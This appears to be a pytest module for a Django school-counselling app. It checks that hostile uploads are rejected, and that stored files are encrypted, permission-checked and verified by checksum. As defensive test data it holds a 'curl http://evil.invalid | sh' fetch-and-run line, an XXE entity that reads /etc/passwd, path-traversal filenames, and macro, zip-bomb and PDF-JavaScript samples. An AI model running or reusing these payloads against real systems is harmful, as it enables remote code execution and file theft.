"""Hostile uploads: each is refused by its content with a Chinese reason and leaves nothing
stored; accepted files are stored encrypted under random names outside the web root, served
only as downloads after a permission check, and verified against their checksum on read."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.urls import reverse

from tests.campaign_fixtures import report_files
from tests.document_fixtures import PDF_ATTACKS, handmade_pdf, page_objects, truetype_pdf_with_js_bytes_in_a_stream
from tests.xinan.dossier.conftest import EXE, JPEG, MP3, PNG, make_docx, make_pdf, make_zip
from xinan.audit.models import AuditEntry
from xinan.campaigns.models import CampaignAttachment
from xinan.crypto.keys import fernet
from xinan.dossier.models import Document
from xinan.dossier.services.errors import DossierError
from xinan.dossier.services.filetypes import detect
from xinan.reports.models import CaseReport
from xinan.web import middleware

NOTE = "班主任转交的材料"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(120)


# --- Hostile files, made here -------------------------------------------------------------
def _rewrite_docx(data: bytes, part: str, transform) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            content = source.read(entry)
            target.writestr(entry.filename, transform(content) if entry.filename == part else content)
    return buffer.getvalue()


def docx_with_macro_part() -> bytes:
    """A normal-looking .docx (no macro content type) with a VBA project inside."""
    buffer = io.BytesIO(make_docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name" * 20)
    return buffer.getvalue()


def docx_with_xxe(encoding: str = "utf-8") -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def inject(xml: bytes) -> bytes:
        text = xml.decode("utf-8")
        declaration_end = text.index("?>") + 2
        text = text[:declaration_end] + doctype + text[declaration_end:].replace("<w:t>", "<w:t>&xxe;", 1)
        if encoding == "utf-16":
            return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
        return text.encode("utf-8")

    return _rewrite_docx(make_docx(), "word/document.xml", inject)


def nested_zip_bomb() -> bytes:
    """A .docx whose one part is a small zip that unpacks to a very large one."""
    return _rewrite_docx(make_docx(), "word/document.xml", lambda xml: xml + b" " * (30 * 1024 * 1024))


# Hostile PDFs are whole files a reader opens (tests/document_fixtures.py builds them byte by byte).
PDF_OPEN_JS = PDF_ATTACKS["open-action-between-stream-comments"][0]
PDF_ESCAPED_JS = PDF_ATTACKS["escaped-name"][0]
PDF_OPEN_URI = PDF_ATTACKS["open-action-uri"][0]
PDF_LAUNCH = PDF_ATTACKS["unreachable-launch"][0]
PDF_AA = PDF_ATTACKS["page-additional-action"][0]
PDF_OBJSTM_JS = PDF_ATTACKS["javascript-in-object-stream"][0]


def polyglot(head: bytes) -> bytes:
    """``head`` (a PDF or a picture) with a zip holding a program appended: valid as both."""
    return head + make_zip({"run.exe": EXE, "readme.txt": b"hello"})


HOSTILE = {
    "exe-as-pdf": ("请假条.pdf", EXE, "可执行程序"),
    "exe-as-docx": ("请假条.docx", EXE, "可执行程序"),
    "exe-as-jpg": ("照片.jpg", EXE, "可执行程序"),
    "elf-as-pdf": ("报告.pdf", ELF, "可执行程序"),
    "script-as-txt": ("聊天记录.txt", b"#!/bin/sh\ncurl http://evil.invalid | sh\n", "可执行程序"),
    "old-doc-ole2": ("请假条.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "含宏"),
    "docx-with-vba": ("请假条.docx", docx_with_macro_part(), "含宏"),
    "xxe-docx": ("请假条.docx", docx_with_xxe(), "外部实体"),
    "xxe-docx-utf16": ("请假条.docx", docx_with_xxe("utf-16"), "外部实体"),
    "zip-bomb": ("请假条.docx", nested_zip_bomb(), "压缩炸弹"),
    "plain-zip": ("请假条.docx", make_zip({"a.exe": EXE}), "压缩包"),
    "pdf-openaction-js": ("请假条.pdf", PDF_OPEN_JS, "脚本"),
    "pdf-escaped-js": ("请假条.pdf", PDF_ESCAPED_JS, "脚本"),
    "pdf-objstm-js": ("请假条.pdf", PDF_OBJSTM_JS, "脚本"),
    "pdf-annotation-js": ("请假条.pdf", PDF_ATTACKS["annotation-javascript"][0], "脚本"),
    "pdf-names-js": ("请假条.pdf", PDF_ATTACKS["names-tree-javascript"][0], "脚本"),
    "pdf-next-chain-js": ("请假条.pdf", PDF_ATTACKS["next-chain-javascript"][0], "脚本"),
    "pdf-embedded-file": ("请假条.pdf", PDF_ATTACKS["embedded-file"][0], "嵌入"),
    "pdf-flate-bomb": ("请假条.pdf", PDF_ATTACKS["flate-bomb"][0], "异常庞大"),
    "pdf-malformed": ("请假条.pdf", PDF_ATTACKS["malformed"][0], "损坏"),
    "pdf-openaction-uri": ("请假条.pdf", PDF_OPEN_URI, "脚本"),
    "pdf-launch": ("请假条.pdf", PDF_LAUNCH, "脚本"),
    "pdf-additional-actions": ("请假条.pdf", PDF_AA, "脚本"),
    "pdf-zip-polyglot": ("请假条.pdf", polyglot(make_pdf()), "压缩包"),
    "jpeg-zip-polyglot": ("照片.jpg", polyglot(JPEG), "压缩包"),
}


def _stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def _upload(client, case, *, name, data, slot="other"):
    return client.post(
        reverse("dossier:upload", args=[case.pk]), {"slot": slot, "note": NOTE, "file": SimpleUploadedFile(name, data)}
    )


# --- Type by content -------------------------------------------------------------------------
@pytest.mark.parametrize("key", list(HOSTILE))
def test_hostile_file_refused_by_detection(key):
    _name, data, message = HOSTILE[key]
    with pytest.raises(DossierError, match=message):
        detect(data)


@pytest.mark.parametrize("key", list(HOSTILE))
def test_hostile_dossier_upload_refused_in_chinese_nothing_stored(client, case, world, key):
    name, data, message = HOSTILE[key]
    client.force_login(world.counsellor_a)
    before = _stored_files()
    response = _upload(client, case, name=name, data=data)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Document.objects.exists()
    assert _stored_files() == before
    assert not AuditEntry.objects.filter(action="xinan.dossier.upload").exists()


@pytest.mark.parametrize("key", ["exe-as-pdf", "pdf-objstm-js", "pdf-zip-polyglot", "xxe-docx", "docx-with-vba"])
def test_hostile_campaign_attachment_refused_nothing_stored(client, world, campaign, key):
    name, data, message = HOSTILE[key]
    client.force_login(world.national_admin)
    before = _stored_files()
    response = client.post(
        reverse("campaigns:attachment_add", args=[campaign.pk]),
        {"name": "模板", "file": SimpleUploadedFile(name, data)},
        follow=True,
    )
    assert message in response.content.decode()
    assert not CampaignAttachment.objects.exists()
    assert _stored_files() == before


def test_hostile_report_import_refused_and_report_unchanged(client, world):
    report = CaseReport.objects.create(author=world.counsellor_a, school=world.school_a, title="原标题")
    client.force_login(world.counsellor_a)
    response = client.post(
        reverse("reports:import", args=[report.pk]), {"file": SimpleUploadedFile("报告.docx", docx_with_xxe())}
    )
    assert response.status_code == 400
    assert "外部实体" in response.content.decode()
    report.refresh_from_db()
    assert report.title == "原标题"


def test_name_does_not_decide_the_type(client, case, world):
    client.force_login(world.counsellor_a)
    response = _upload(client, case, name="照片.jpg", data=make_pdf())  # a PDF named .jpg
    assert response.status_code == 302
    document = Document.objects.get()
    assert (document.content_type, document.extension) == ("application/pdf", "pdf")
    download = client.get(reverse("dossier:download", args=[document.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].endswith(".pdf")


def test_harmless_files_with_lookalike_names_still_pass():
    # A reportlab PDF names its font subset /AAAAAA: that is not the /AA (additional actions) entry.
    assert detect(make_pdf()).extension == "pdf"
    pdf_destination = handmade_pdf(page_objects(b"/OpenAction [ 3 0 R /Fit ]"))
    assert detect(pdf_destination).extension == "pdf"  # opening at a page is not an action
    assert detect(truetype_pdf_with_js_bytes_in_a_stream()).extension == "pdf"  # bytes in a stream are no name
    assert detect(make_docx()).extension == "docx"
    assert detect(PNG).extension == "png"
    assert detect(MP3 + b"PK\x05\x06" + bytes(18)).extension == "mp3"  # the bytes alone are no archive


# --- Size, while the body streams in ------------------------------------------------------------
class _Counting:
    """Counts what the temporary-file handler (a body over 2 MB goes there) is given after the cap."""

    received = 0


def _counting(handler_class):
    class Counting(handler_class):
        def receive_data_chunk(self, raw_data, start):
            _Counting.received += len(raw_data)
            return super().receive_data_chunk(raw_data, start)

    return Counting


@pytest.mark.parametrize(
    ("url", "field", "extra"),
    [("dossier", "file", {"slot": "talk_recording", "note": NOTE}), ("campaign", "file", {"name": "模板"})],
)
def test_oversized_upload_is_cut_off_while_streaming(client, case, world, campaign, monkeypatch, url, field, extra):
    limit = 256 * 1024
    monkeypatch.setattr(middleware, "upload_limit", lambda: limit)
    monkeypatch.setattr(_Counting, "received", 0)
    monkeypatch.setattr(
        settings,
        "FILE_UPLOAD_HANDLERS",
        ["django.core.files.uploadhandler.MemoryFileUploadHandler", f"{__name__}.CountingTemporaryFileUploadHandler"],
    )
    user = world.counsellor_a if url == "dossier" else world.national_admin
    client.force_login(user)
    target = (
        reverse("dossier:upload", args=[case.pk])
        if url == "dossier"
        else reverse("campaigns:attachment_add", args=[campaign.pk])
    )
    before = _stored_files()
    response = client.post(target, {field: SimpleUploadedFile("录音.mp3", MP3 * 4000), **extra})  # ~4 MB
    assert response.status_code in (302, 400)
    # The temporary file got at most the limit plus one chunk; the rest was never kept.
    assert _Counting.received <= limit + 64 * 1024
    assert _stored_files() == before
    assert not Document.objects.exists()
    assert not CampaignAttachment.objects.exists()
    if url == "dossier":
        assert "文件太大" in response.content.decode()
    else:
        assert "不能超过 20 MB" in client.get(response["Location"]).content.decode()


CountingTemporaryFileUploadHandler = _counting(TemporaryFileUploadHandler)


def test_upload_settings_keep_bodies_small():
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024  # bigger files spool to a 0600 temporary file
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024  # the non-file fields of a request
    assert settings.FILE_UPLOAD_PERMISSIONS == 0o600
    assert "xinan.web.middleware.UploadLimitMiddleware" in settings.MIDDLEWARE
    order = settings.MIDDLEWARE
    assert order.index("xinan.web.middleware.UploadLimitMiddleware") < order.index(
        "django.middleware.csrf.CsrfViewMiddleware"
    )


def _raw_upload(client, case, *, filename: str, data: bytes, slot: str = "other"):
    """A multipart body written by hand: the test client would tidy the file name first."""
    boundary = "----xinan-boundary-7d1"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="slot"\r\n\r\n{slot}\r\n'.encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\n{NOTE}\r\n'.encode(),
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'.encode()
        + b"Content-Type: application/octet-stream\r\n\r\n"
        + data
        + b"\r\n",
        f"--{boundary}--\r\n".encode(),
    ]
    return client.generic(
        "POST",
        reverse("dossier:upload", args=[case.pk]),
        b"".join(parts),
        content_type=f"multipart/form-data; boundary={boundary}",
    )


# --- Names ---------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/cron.d/请假条.pdf",
        "..\\..\\..\\Windows\\System32\\请假条.pdf",
        "/etc/passwd",
        "..",
        "请假条\t.pdf",
    ],
)
def test_path_traversal_in_the_name_goes_nowhere(client, case, world, name):
    client.force_login(world.counsellor_a)
    before = _stored_files()
    response = _raw_upload(client, case, filename=name, data=make_pdf())
    media = Path(settings.MEDIA_ROOT).resolve()
    for path in set(_stored_files()) - set(before):
        assert path.resolve().is_relative_to(media)
        assert re.fullmatch(r"[0-9a-f]{32}(_\w+)?\.bin", path.name)
    document = Document.objects.filter(case=case).first()
    if document is None:  # Django drops a name that is only dots: then the form asks for a file
        assert response.status_code == 400
        assert "请选择" in response.content.decode() or "提交的文件" in response.content.decode()
        return
    assert "/" not in document.original_name
    assert "\\" not in document.original_name
    disposition = client.get(reverse("dossier:download", args=[document.pk]))["Content-Disposition"]
    assert "\r" not in disposition
    assert "\n" not in disposition
    assert "/" not in disposition.split("filename*=")[0]
    assert "%2F" not in disposition
    assert "%5C" not in disposition
    assert ".." not in disposition


# --- Storage and serving -------------------------------------------------------------------------
def test_files_stored_encrypted_under_random_names_outside_the_web_root(client, case, world):
    client.force_login(world.counsellor_a)
    _upload(client, case, name="请假条.pdf", data=make_pdf())
    document = Document.objects.get()
    media = Path(settings.MEDIA_ROOT).resolve()
    static = Path(settings.STATIC_ROOT).resolve()
    assert not media.is_relative_to(static)
    assert not static.is_relative_to(media)
    assert re.search(r"/[0-9a-f]{32}\.bin$", document.storage_name)
    stored = media / document.storage_name
    assert stored.stat().st_mode & 0o077 == 0
    assert b"%PDF" not in stored.read_bytes()
    # There is no URL for stored files: the media prefix is not routed.
    assert client.get(settings.MEDIA_URL + document.storage_name).status_code == 404
    assert client.get("/static/../" + document.storage_name).status_code == 404


def test_download_is_an_attachment_with_nosniff_after_a_permission_check(client, case, world):
    client.force_login(world.counsellor_a)
    _upload(client, case, name="聊天记录.txt", data=b"<html><script>alert(1)</script></html>\n")
    document = Document.objects.get()
    url = reverse("dossier:download", args=[document.pk])
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].startswith("text/plain")
    assert "sandbox" in response["Content-Security-Policy"]
    client.force_login(world.counsellor_b)  # another school
    assert client.get(url).status_code == 404
    client.logout()
    assert client.get(url).status_code == 302


def test_campaign_attachment_download_headers_and_permission(client, world, campaign, right):
    client.force_login(world.national_admin)
    client.post(
        reverse("campaigns:attachment_add", args=[campaign.pk]),
        {"name": "模板", "file": SimpleUploadedFile("t.pdf", report_files()[1])},
    )
    attachment = CampaignAttachment.objects.get()
    url = reverse("campaigns:attachment", args=[attachment.pk])
    client.force_login(world.filer_a)
    response = client.get(url)
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    client.force_login(world.counsellor_b)
    assert client.get(url).status_code == 404


def test_tampered_file_fails_its_checksum_and_is_not_served(client, case, world):
    client.force_login(world.counsellor_a)
    _upload(client, case, name="请假条.pdf", data=make_pdf())
    document = Document.objects.get()
    assert len(document.sha256) == 64
    # Someone with the disk (and even the key) swaps the content: the checksum still catches it.
    default_storage.delete(document.storage_name)
    default_storage.save(document.storage_name, ContentFile(fernet().encrypt(make_pdf("调包后的内容"))))
    response = client.get(reverse("dossier:download", args=[document.pk]))
    assert response.status_code == 409
    page = response.content.decode()
    assert "校验值" in page
    assert "%PDF" not in page
    assert not AuditEntry.objects.filter(action="xinan.dossier.download").exists()


def test_oversized_report_file_is_cut_off_and_named(client, world, campaign, right, monkeypatch):
    from xinan.campaigns.services import filing

    draft = filing.start_submission(campaign, filer=world.filer_a)
    monkeypatch.setattr(middleware, "upload_limit", lambda: 256 * 1024)
    client.force_login(world.filer_a)
    docx, pdf = report_files()
    response = client.post(
        reverse("campaigns:upload_files", args=[draft.pk]),
        {
            "docx": SimpleUploadedFile("案例.docx", docx + b"\0" * (512 * 1024)),
            "pdf": SimpleUploadedFile("案例.pdf", pdf),
        },
    )
    assert response.status_code == 400
    assert "不能超过 20 MB" in response.content.decode()
    draft.refresh_from_db()
    assert not draft.docx_name
